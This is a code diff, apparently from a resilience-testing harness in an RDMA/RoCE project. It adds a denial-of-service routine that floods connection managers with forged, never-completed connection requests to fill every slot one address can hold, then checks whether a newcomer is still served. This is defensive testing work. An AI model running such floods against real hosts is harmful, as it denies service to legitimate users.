@@ -2,6 +2,7 @@ package attack
 
 import (
 	"net/netip"
+	"time"
 
 	"github.com/verbena-rdma/verbena/soft/internal/roce/cm"
 	"github.com/verbena-rdma/verbena/soft/internal/roce/cm/mad"
@@ -11,23 +12,46 @@ import (
 
 // floodRequests sends connection requests with new queue pairs and identities to the listeners of
 // the right victim, and completes none.
-func floodRequests(a *attacker) error {
+func floodRequests(a *attacker) error { return a.floodManagers(a.request) }
+
+// request makes a request with a new queue pair and identity.
+func (a *attacker) request(s *sender, message *[mad.Len]byte, port uint16) error {
+	var private [mad.IPHeaderLen]byte
+	header := mad.IPHeader{Source: s.from.Addr(), Destination: s.to.Addr(), SourcePort: uint16(a.rng.Uint32())}
+	header.Encode(&private)
+	r := mad.REQ{
+		TransactionID: a.rng.Uint64(), LocalCommID: a.rng.Uint32(), CAGUID: a.rng.Uint64(), QPN: a.rng.Uint32N(1<<24-2) + 2,
+		ServiceID: cm.Service{Space: cm.PortSpaceTCP, Port: port}.ID(), RemoteResponseTimeout: 20, LocalResponseTimeout: 20,
+		ResponderResources: 1, InitiatorDepth: 1, PKey: 0xffff, PathMTU: 1, RetryCount: 7, RNRRetry: 7, MaxCMRetries: 15,
+		PrivateData: private[:],
+		Primary: mad.Path{
+			LocalLID: mad.PermissiveLID, RemoteLID: mad.PermissiveLID, HopLimit: 64, AckTimeout: 17,
+			LocalGID: verbs.GIDFromAddr(s.from.Addr()), RemoteGID: verbs.GIDFromAddr(s.to.Addr()),
+		},
+	}
+	return r.Encode(message)
+}
+
+// holdPlaces sends as many requests as it takes to get all places that one address can have, completes
+// none, and repeats them. Meanwhile it looks whether a newcomer is served.
+func holdPlaces(a *attacker) error {
+	requests := 0
 	return a.floodManagers(func(s *sender, message *[mad.Len]byte, port uint16) error {
-		var private [mad.IPHeaderLen]byte
-		header := mad.IPHeader{Source: s.from.Addr(), Destination: s.to.Addr(), SourcePort: uint16(a.rng.Uint32())}
-		header.Encode(&private)
-		r := mad.REQ{
-			TransactionID: a.rng.Uint64(), LocalCommID: a.rng.Uint32(), CAGUID: a.rng.Uint64(), QPN: a.rng.Uint32N(1<<24-2) + 2,
-			ServiceID: cm.Service{Space: cm.PortSpaceTCP, Port: port}.ID(), RemoteResponseTimeout: 20, LocalResponseTimeout: 20,
-			ResponderResources: 1, InitiatorDepth: 1, PKey: 0xffff, PathMTU: 1, RetryCount: 7, RNRRetry: 7, MaxCMRetries: 15,
-			PrivateData: private[:],
-			Primary: mad.Path{
-				LocalLID: mad.PermissiveLID, RemoteLID: mad.PermissiveLID, HopLimit: 64, AckTimeout: 17,
-				LocalGID: verbs.GIDFromAddr(s.from.Addr()), RemoteGID: verbs.GIDFromAddr(s.to.Addr()),
-			},
+		if requests++; requests == 200 {
+			go a.tryNewcomer()
 		}
-		return r.Encode(message)
+		time.Sleep(time.Millisecond)
+		return a.request(s, message, port)
 	})
+}
+
+// tryNewcomer lets a newcomer dial, and ends the attack.
+func (a *attacker) tryNewcomer() {
+	defer a.ended.Store(true)
+	answer, err := a.ask(message{Kind: "newcomer"})
+	if err == nil && answer.Text != "" {
+		a.achieved(refused, "a newcomer is not served beside requests of one address: %s", answer.Text)
+	}
 }
 
 // floodMessages sends random bytes to the connection managers.
